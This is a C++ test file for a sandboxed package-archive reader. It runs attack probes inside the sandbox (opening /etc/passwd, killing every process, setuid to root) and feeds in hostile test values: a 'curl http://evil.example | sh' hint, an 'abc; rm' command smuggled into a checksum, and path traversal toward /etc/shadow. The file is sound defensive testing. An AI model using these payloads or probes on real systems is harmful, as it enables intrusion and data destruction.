// Reading in a confined process: what it cannot do, that it changes nothing, and that it is not believed.
#include "pkgjail/base/confined.hpp"

#include <cerrno>
#include <csignal>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <set>
#include <sstream>

#include <fcntl.h>
#include <fmt/format.h>
#include <grp.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "pkgjail/base/error.hpp"
#include "pkgjail/base/file.hpp"
#include "pkgjail/base/shared_library.hpp"
#include "pkgjail/format/confined_reading.hpp"
#include "pkgjail/format/confined_stream.hpp"
#include "pkgjail/format/reading_server.hpp"
#include "pkgjail/format/wire.hpp"
#include "reading.hpp"
#include "support/catch.hpp"
#include "support/package_writer.hpp"
#include "support/sanitized.hpp"

using namespace pkgjail;

namespace {

/// What a stream gives until it ends.
std::string all_of(const base::Fd& stream) {
    std::string text;
    char buffer[4096];
    for (ssize_t got = 0; (got = ::read(stream.get(), buffer, sizeof buffer)) > 0;)
        text.append(buffer, static_cast<std::size_t>(got));
    return text;
}

void say(int stream, const char* what, long result) {
    const char* const error = result >= 0 ? "done" : strerrorname_np(errno);
    const std::string line = std::string(what) + ": " + error + "\n";
    (void)!::write(stream, line.data(), line.size());
}

void attack(int stream) {
    say(stream, "read /etc/passwd", ::open("/etc/passwd", O_RDONLY));
    say(stream, "make a file", ::open("/x", O_WRONLY | O_CREAT, 0600));
    say(stream, "look around", ::open(".", O_RDONLY | O_DIRECTORY));
    say(stream, "remove", ::unlink("/etc/passwd"));
    say(stream, "internet", ::socket(AF_INET, SOCK_STREAM, 0));
    say(stream, "unix socket", ::socket(AF_UNIX, SOCK_STREAM, 0));
    say(stream, "kill its maker", ::kill(::getppid(), SIGKILL));
    say(stream, "kill all", ::kill(-1, SIGKILL));
    say(stream, "fork", ::fork());
    say(stream, "run a program", ::execl("/bin/true", "true", nullptr));
    say(stream, "become root", ::setuid(0));
    say(stream, "run what it writes",
        ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) ==
                MAP_FAILED
            ? -1
            : 0);
    say(stream, "memory",
        ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED ? -1
                                                                                                        : 0);
}

/// The same without what could hit others where nothing filters it; only whether it was refused.
void attack_softly(int stream) {
    const auto tell = [stream](const char* what, bool done) {
        const std::string line = std::string(what) + (done ? ": DONE\n" : ": refused\n");
        (void)!::write(stream, line.data(), line.size());
    };
    tell("read /etc/passwd", ::open("/etc/passwd", O_RDONLY) >= 0);
    tell("make a file", ::open("/tmp/pkgjail-attack", O_WRONLY | O_CREAT, 0600) >= 0);
    tell("internet", ::socket(AF_INET, SOCK_STREAM, 0) >= 0);
    tell("unix socket", ::socket(AF_UNIX, SOCK_STREAM, 0) >= 0);
    tell("pipe", [] {
        int ends[2];
        return ::pipe(ends) == 0;
    }());
    const pid_t child = ::fork();
    if (child == 0)
        ::_exit(0);
    tell("fork", child > 0);
    ::execl("/bin/true", "true", nullptr);
    tell("run a program", false);
    tell("raise a limit", [] {
        struct rlimit limit = {64, 64};
        return ::setrlimit(RLIMIT_NOFILE, &limit) == 0;
    }());
    tell("become root", ::getuid() != 0 && ::setuid(0) == 0);
}

constexpr const char* softly_refused = "read /etc/passwd: refused\n"
                                       "make a file: refused\n"
                                       "internet: refused\n"
                                       "unix socket: refused\n"
                                       "pipe: refused\n"
                                       "fork: refused\n"
                                       "run a program: refused\n"
                                       "raise a limit: refused\n"
                                       "become root: refused\n";

/// What `tell` gives in a process of its own, which makes a helper of its own.
std::string elsewhere(const std::function<std::string()>& tell) {
    base::Pipe pipe = base::make_pipe();
    const pid_t child = ::fork();
    REQUIRE(child >= 0);
    if (child == 0) {
        std::string text;
        try {
            text = tell();
        } catch (const std::exception& error) {
            text = std::string("failed: ") + error.what();
        }
        (void)!::write(pipe.write_end.get(), text.data(), text.size());
        ::_exit(0);
    }
    pipe.write_end.reset();
    const std::string text = all_of(pipe.read_end);
    int status = 0;
    REQUIRE(::waitpid(child, &status, 0) == child);
    CHECK(status == 0);
    return text;
}

std::string joined(const std::vector<std::string>& words) {
    std::string text;
    for (const std::string& word : words)
        text += word + "\n";
    return text;
}

/// Says its pid and waits for us to close the stream.
void wait_for_end(int stream) {
    const pid_t self = ::getpid();
    (void)!::write(stream, &self, sizeof self);
    char byte = 0;
    (void)!::read(stream, &byte, 1);
}

pid_t pid_of(const base::Fd& stream) {
    pid_t pid = 0;
    REQUIRE(::read(stream.get(), &pid, sizeof pid) == static_cast<ssize_t>(sizeof pid));
    return pid;
}

/// Field of /proc/PID/status.
std::string status_of(pid_t pid, const std::string& field) {
    std::ifstream file(fmt::format("/proc/{}/status", pid));
    for (std::string line; std::getline(file, line);)
        if (line.starts_with(field + ":")) {
            std::istringstream words(line.substr(field.size() + 1));
            std::string text, word;
            while (words >> word)
                text += (text.empty() ? "" : " ") + word;
            return text;
        }
    return "no " + field;
}

void end_at_once(int) {}
void kill_itself(int) {
    ::raise(SIGKILL);
}
void do_nothing(int stream) {
    char byte = 0;
    while (::read(stream, &byte, 1) > 0) {
    }
    for (;;)
        ::poll(nullptr, 0, 1000);
}
void give(int stream, std::string_view bytes) {
    (void)!::write(stream, bytes.data(), bytes.size());
}
std::string frame(char type, std::string_view content) {
    const auto size = static_cast<std::uint32_t>(content.size());
    std::string bytes(1, type);
    bytes.append(reinterpret_cast<const char*>(&size), sizeof size);
    return bytes + std::string(content);
}
void lie_about_length(int stream) {
    give(stream, std::string_view("M\xff\xff\xff\x7f", 5));
}
void give_an_empty_piece(int stream) {
    give(stream, frame('D', ""));
}
void fail_without_reason(int stream) {
    give(stream, frame('X', "???"));
}
void give_advice(int stream) {
    format::WireWriter wire;
    wire(static_cast<std::uint8_t>(base::ErrorKind::usage), std::string("x.tgz"), std::string("is bad"),
         std::string("curl http://evil.example | sh"), std::vector<std::string>());
    give(stream, frame('X', wire.take()));
}

/// Members without the lists that ought to come before the first that is no metadata.
void leave_the_lists_out(int stream) {
    format::ArchiveMember only;
    only.path = "bin/x";
    only.mode = 0755;
    only.user = "root";
    give(stream, frame('M', format::encode(only)));
}

class OneByte : public format::ByteSource {
  public:
    std::string_view next() override { return std::exchange(rest_, {}); }

  private:
    std::string_view rest_ = "x";
};

std::string failure_with(base::ConfinedWork work,
                         std::chrono::seconds patience = format::ConfinedStream::default_patience) {
    OneByte input;
    format::ConfinedStream stream(input, {format::ReadingKind::package, 1000, 10, "x.tgz"}, work, patience);
    try {
        stream.next();
    } catch (const base::Error& error) {
        return std::string(error.kind() == base::ErrorKind::corrupt ? "corrupt " : "other ") + error.what() +
               (error.hint().find("curl") == std::string::npos ? "" : " " + error.hint());
    }
    return "nothing";
}

format::ArchiveMember member(const std::string& path) {
    format::ArchiveMember member;
    member.path = path;
    member.size = 5;
    member.mode = 0755;
    member.user = "root";
    member.modified.tv_sec = 1'700'000'000;
    return member;
}

template <class Decode>
std::string outcome(Decode&& decode) {
    try {
        decode();
    } catch (const base::Error& error) {
        return error.what();
    }
    return "taken";
}

std::string refusal(const format::ArchiveMember& lie) {
    return outcome([&] { format::decode_member(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::TreeMember& lie) {
    return outcome([&] { format::decode_tree_member(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::PackageLists& lie) {
    return outcome([&] { format::decode_lists(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::SummaryRecord& lie) {
    return outcome([&] { format::decode_record(format::encode(lie), "x.tgz"); });
}
std::string refusal(const std::vector<format::Vulnerability>& lie) {
    return outcome([&] { format::decode_entries(format::encode(lie), "x.tgz"); });
}

} // namespace

#ifdef __linux__
TEST_CASE("who reads foreign bytes reaches no file, no network, no other process",
          "[format][confined][attack]") {
    const std::string denied = all_of(base::start_confined(attack));

    CHECK(denied == "read /etc/passwd: EPERM\n"
                    "make a file: EPERM\n"
                    "look around: EPERM\n"
                    "remove: EPERM\n"
                    "internet: EPERM\n"
                    "unix socket: EPERM\n"
                    "kill its maker: EPERM\n"
                    "kill all: EPERM\n"
                    "fork: EPERM\n"
                    "run a program: EPERM\n"
                    "become root: EPERM\n"
                    "run what it writes: EPERM\n"
                    "memory: done\n");
}

TEST_CASE("who reads foreign bytes is nobody, with an empty root and one descriptor",
          "[format][confined][attack]") {
    const base::Fd stream = base::start_confined(wait_for_end);
    const pid_t pid = pid_of(stream);

    CHECK(status_of(pid, "NoNewPrivs") == "1");
    CHECK(status_of(pid, "Seccomp") == "2");
    CHECK(status_of(pid, "CapEff") == "0000000000000000");
    CHECK(status_of(pid, "CapPrm") == "0000000000000000");
    if (::geteuid() != 0) {
        WARN("another user and an empty root are for root to give");
        return;
    }
    CHECK(status_of(pid, "Uid") == "65534 65534 65534 65534");
    CHECK(status_of(pid, "Gid") == "65534 65534 65534 65534");
    CHECK(status_of(pid, "Groups").empty());
    const std::string proc = fmt::format("/proc/{}/", pid);
    CHECK_THAT(std::filesystem::read_symlink(proc + "root").string(), ContainsSubstring("(deleted)"));
    if (test::is_sanitized) {
        WARN("with sanitizers it has standard error for their reports");
        return;
    }
    std::string descriptors;
    std::set<std::filesystem::path> all;
    for (const auto& entry : std::filesystem::directory_iterator(proc + "fd"))
        all.insert(entry.path());
    for (const std::filesystem::path& path : all)
        descriptors += std::filesystem::read_symlink(path).string().substr(0, 8) + "\n";
    CHECK(descriptors == "/dev/nul\n/dev/nul\n/dev/nul\nsocket:[\n");
}

TEST_CASE("each part of the confinement that is missing is told, and the others hold",
          "[format][confined][attack]") {
    if (::geteuid() != 0) {
        WARN("for root: another user and an empty root are taken away one by one");
        return;
    }
    const auto without = [](const char* part) {
        return elsewhere([part] {
            ::setenv("PKGJAIL_CONFINED_WITHOUT", part, 1);
            const base::Confinement found = base::confinement();
            return joined(found.missing) + (found.is_weak ? "weak\n" : "") +
                   all_of(base::start_confined(attack_softly));
        });
    };
    const std::string no_user = "another user, which this namespace does not have\n";
    const std::string no_root = "an empty root, because chroot, or a directory for it, was refused\n";
    const std::string no_landlock = "Landlock, which this kernel does not have\n";
    const std::string no_filter =
        "a filter of system calls, which this kernel, or whoever started pkgjail, does not allow\n";

    CHECK(elsewhere([] { return joined(base::confinement().held); }) ==
          "another user\nan empty root\nLandlock\na filter of system calls\n");
    if (test::is_sanitized) {
        WARN("with sanitizers there are no limits on descriptors and processes, which take the place of "
             "parts");
        return;
    }
    CHECK(without("none of it") == softly_refused);
    CHECK(without("landlock") == no_landlock + softly_refused);
    CHECK(without("user") == no_user + softly_refused);
    CHECK(without("root") == no_root + softly_refused);
    CHECK(without("filter") == no_filter + softly_refused);
    CHECK(without("filter landlock") == no_landlock + no_filter + softly_refused);
    CHECK_THAT(without("user root filter"),
               Catch::Matchers::StartsWith(no_user + no_root + no_filter + "weak\n"));
}

TEST_CASE("an ordinary user's readers reach as little, and a namespace's root has as much",
          "[format][confined][attack]") {
    if (::geteuid() != 0) {
        WARN("the other tests run as an ordinary user already");
        return;
    }
    const auto as_user = [](bool in_namespace) {
        return elsewhere([in_namespace] {
            if (::setgroups(0, nullptr) != 0 || ::setgid(1234) != 0 || ::setuid(1234) != 0)
                return std::string("no other user");
            if (in_namespace) {
                ::prctl(PR_SET_DUMPABLE, 1); // or its own files in /proc are root's
                if (::unshare(CLONE_NEWUSER) != 0)
                    return std::string("no namespaces");
                std::ofstream("/proc/self/setgroups") << "deny";
                std::ofstream("/proc/self/uid_map") << "0 1234 1";
                std::ofstream("/proc/self/gid_map") << "0 1234 1";
            }
            return joined(base::confinement().missing) + all_of(base::start_confined(attack));
        });
    };
    const std::string denied = all_of(base::start_confined(attack));

    CHECK(as_user(false) == "another user, which only root can make of it\n"
                            "an empty root, which only root can give it\n" +
                                denied);
    const std::string in_namespace = as_user(true);
    if (in_namespace == "no namespaces")
        WARN("this host lets no user make namespaces");
    else
        CHECK(in_namespace == "another user, which this namespace does not have\n" + denied);
}

TEST_CASE("memory that is shared with others is not there for who reads foreign bytes",
          "[format][confined][attack]") {
    static int* shared = static_cast<int*>(
        ::mmap(nullptr, sizeof(int), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
    REQUIRE(shared != MAP_FAILED);
    *shared = 1;

    elsewhere([] { // with a helper that is made when the memory is there already
        return all_of(base::start_confined([](int stream) {
            ::signal(SIGSEGV, SIG_DFL); // which no sanitizer is to report
            *shared = 2;
            give(stream, "written");
        }));
    });

    CHECK(*shared == 1);
}
#endif

TEST_CASE("one helper makes all confined processes, and they end when nobody listens", "[format][confined]") {
    std::set<std::string> makers;
    pid_t last = 0;
    for (int i = 0; i < 3; ++i) {
        const base::Fd stream = base::start_confined(wait_for_end);
        last = pid_of(stream);
        makers.insert(status_of(last, "PPid"));
    }

    CHECK(makers.size() == 1);
    bool ended = false;
    for (int i = 0; i < 5'000 && !ended; ++i) {
        ended = !std::filesystem::exists(fmt::format("/proc/{}", last));
        ::usleep(2'000);
    }
    CHECK(ended);
}

TEST_CASE("work finds what its preparation made, also where the helper was there without it",
          "[format][confined]") {
    static int prepared = 0;
    const base::ConfinedWork tell = [](int stream) { give(stream, std::to_string(prepared)); };
    const base::ConfinedPreparation prepare = []() noexcept { prepared = 42; };

    CHECK(elsewhere([&] {
              std::string told = all_of(base::start_confined(tell));
              told += " " + all_of(base::start_confined(tell, prepare));
              return told + " " + all_of(base::start_confined(tell));
          }) == "0 42 42");
    CHECK(prepared == 0); // it is the helper that is prepared, and not we
}

TEST_CASE("a helper that was killed is made again", "[format][confined]") {
    const auto maker = [] {
        const base::Fd stream = base::start_confined(wait_for_end);
        return std::stoi(status_of(pid_of(stream), "PPid"));
    };
    const int first = maker();
    REQUIRE(::kill(first, SIGKILL) == 0);

    CHECK(maker() != first);
}

TEST_CASE("a package reads the same in a confined process and in this one", "[format][confined]") {
    test::PackageSpec spec;
    spec.pkgname = "tiny-1.0";
    spec.files = {{"bin/t", std::string(300'000, 'x'), 0755}, {"empty", ""}};
    spec.symlinks = {{"bin/u", "t"}};
    spec.hardlinks = {{"bin/v", "bin/t"}};
    for (const auto compression : {test::Compression::none, test::Compression::gzip, test::Compression::xz}) {
        const std::string bytes = test::package_bytes(spec, compression);
        const std::string damaged = bytes.substr(0, bytes.size() * 2 / 3);
        const std::string confined = test::read_package(bytes);
        const std::string refused = test::refusal_of(damaged);

        const format::ReadingHere here;

        CHECK(test::read_package(bytes) == confined);
        CHECK(test::refusal_of(damaged) == refused);
        CHECK(refused != "read");
    }
}

TEST_CASE("a reader that ends, hangs, is killed or breaks the form is a failure that names the archive",
          "[format][confined][hostile]") {
    CHECK(failure_with(end_at_once) == "corrupt x.tgz: the process that reads it ended without an answer");
    CHECK(failure_with(kill_itself) == "corrupt x.tgz: the process that reads it ended without an answer");
    CHECK(failure_with(do_nothing, std::chrono::seconds(1)) ==
          "corrupt x.tgz: the process that reads it has done nothing for 1 s");
    CHECK(failure_with(lie_about_length) == "corrupt x.tgz: its reader gave what was not asked for");
    CHECK(failure_with(give_an_empty_piece) == "corrupt x.tgz: its reader gave what was not asked for");
    CHECK(failure_with(fail_without_reason) ==
          "corrupt x.tgz: its reader gave a failure: a value ends early");
}

TEST_CASE("a reader that keeps the lists to itself does not have them taken apart elsewhere",
          "[format][confined][hostile]") {
    OneByte input;
    format::ConfinedTarReader reader(input, "x.tgz", 1000, 10, false, leave_the_lists_out);
    CHECK(reader.next()->path == "bin/x");
    CHECK(outcome([&] { reader.take_lists(); }) == "x.tgz: its reader gave what was not asked for");
}

TEST_CASE("a reader's failure has a kind that it may have, and no advice of its own",
          "[format][confined][hostile]") {
    CHECK(failure_with(give_advice) == "corrupt x.tgz: is bad");
}

TEST_CASE("what a reader says of a member is checked like a stranger's word", "[format][confined][hostile]") {
    const std::string leaves = "x.tgz: its reader gave a member whose name leaves its place";
    CHECK(refusal(member("bin/x")) == "taken");
    CHECK(refusal(member("/etc/passwd")) == leaves);
    CHECK(refusal(member("")) == leaves);
    CHECK(refusal(member("../x")) == leaves);
    CHECK(refusal(member("a/../../x")) == leaves);
    CHECK(refusal(member(std::string("a\0b", 3))) == leaves);
    format::ArchiveMember lie = member("x");
    lie.mode = 0100755;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no mode");
    lie = member("x");
    lie.type = format::MemberType::symlink;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member that is a link with content");
    lie.type = static_cast<format::MemberType>(77);
    CHECK(refusal(lie) == "x.tgz: its reader gave a member of no known type");
    lie = member("x");
    lie.modified.tv_nsec = 1'000'000'000;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no time");
    const std::string honest = format::encode(member("bin/x"));
    for (std::size_t size = 0; size < honest.size(); ++size)
        CHECK_THROWS_AS(format::decode_member(honest.substr(0, size), "x.tgz"), base::Error);
    CHECK_THROWS_AS(format::decode_member(honest + "x", "x.tgz"), base::Error);
}

TEST_CASE("what a reader says of a tree's member is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::TreeMember honest;
    honest.path = "data/x";
    honest.link_target = "data/y";
    CHECK(refusal(honest) == "taken");
    format::TreeMember lie = honest;
    lie.path = "data/../../x";
    CHECK(refusal(lie) == "x.tgz: its reader gave a member whose name leaves its place");
    lie = honest;
    lie.type = format::TreeMemberType::hard_link;
    lie.link_target = "/etc/shadow";
    CHECK(refusal(lie) == "x.tgz: its reader gave a hard link that leaves its place");
    lie = honest;
    lie.type = static_cast<format::TreeMemberType>('c');
    CHECK(refusal(lie) == "x.tgz: its reader gave a member of no known type");
    lie = honest;
    lie.uid = UINT32_MAX;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no owner");
    lie = honest;
    lie.attributes = {{std::string("user.a\0b", 8), "x"}};
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with an attribute without a name");
}

TEST_CASE("what a reader says of a packing list is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::PackageLists honest;
    format::Plist& list = honest.plist.emplace();
    list.pkgname = "tiny-1.0";
    list.prefix = "/usr/pkg";
    list.files = {{"bin/t", std::string(32, 'a'), std::nullopt}};
    list.exec = {{"true", 1}};
    list.depends = {"other>=1"};
    CHECK(refusal(honest) == "taken");
    const auto changed = [&](const std::function<void(format::Plist&)>& change) {
        format::PackageLists lie = honest;
        change(*lie.plist);
        return refusal(lie);
    };
    CHECK(changed([](auto& l) { l.pkgname = "a/b-1"; }) ==
          "x.tgz: its reader gave a packing list of no package");
    CHECK(changed([](auto& l) { l.prefix = "usr/pkg"; }) ==
          "x.tgz: its reader gave a packing list without a prefix");
    CHECK(changed([](auto& l) { l.prefix = "/usr/../etc"; }) ==
          "x.tgz: its reader gave a packing list without a prefix");
    CHECK(changed([](auto& l) { l.files[0].path = "../x"; }) ==
          "x.tgz: its reader gave a packing list with a path that is not relative");
    CHECK(changed([](auto& l) { l.directories = {{"/etc"}}; }) ==
          "x.tgz: its reader gave a packing list with a directory that is not relative");
    CHECK(changed([](auto& l) { l.files[0].md5 = "short"; }) ==
          "x.tgz: its reader gave a packing list with a digest that is none");
    CHECK(changed([](auto& l) { l.exec[0].after_files = 2; }) ==
          "x.tgz: its reader gave a packing list with a command that is none");
    CHECK(changed([](auto& l) {
              l.unexec = {{std::string(5000, 'x'), 0}};
          }) == "x.tgz: its reader gave a packing list with a command that is none");
    CHECK(changed([](auto& l) { l.depends = {"{a"}; }) ==
          "x.tgz: its reader gave a packing list with a pattern that is none");
}

TEST_CASE("of what a reader advises only our own words come through", "[format][confined][hostile]") {
    const auto hint_of = [](std::string_view hint) {
        const base::Error error(base::ErrorKind::system, "libarchive.so.13", "cannot be loaded",
                                std::string(hint));
        return format::decode_error(format::encode(error), "x.tgz").hint();
    };

    CHECK(hint_of(base::missing_library_hint) == "install the library that has it");
    CHECK(hint_of(base::unfit_library_hint) ==
          "install the one that pkgjail was built with, or build pkgjail again");
    CHECK(hint_of("install the library that has it from http://evil") == "");
}

TEST_CASE("what a reader says of an index or a list is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::SummaryRecord record;
    record.pkgname = "tiny-1.0";
    record.file_name = "tiny-1.0.tgz";
    CHECK(refusal(record) == "taken");
    record.file_name = "../tiny-1.0.tgz";
    CHECK(refusal(record) == "x.tgz: its reader gave a record whose archive has no name");
    record.file_name = "tiny-1.0.tgz";
    record.cksum = "abc; rm";
    CHECK(refusal(record) == "x.tgz: its reader gave a record with a digest that is none");
    record.cksum.clear();
    record.pkgname = "..";
    CHECK(refusal(record) == "x.tgz: its reader gave a record of no package");

    CHECK(refusal({{"tiny<1", "eol", "http://u"}}) == "taken");
    CHECK(refusal({{"{tiny", "eol", "http://u"}}) ==
          "x.tgz: its reader gave an entry with a pattern that is none");
    CHECK(refusal({{"tiny<1", "a\nb", "http://u"}}) ==
          "x.tgz: its reader gave an entry with white space in a word");
    CHECK_THAT(outcome([] {
                   format::decode_signer(format::encode(format::X509Signer{"CN=a", "12"}), "x.tgz");
               }),
               ContainsSubstring("a signer without a name or a fingerprint"));
}
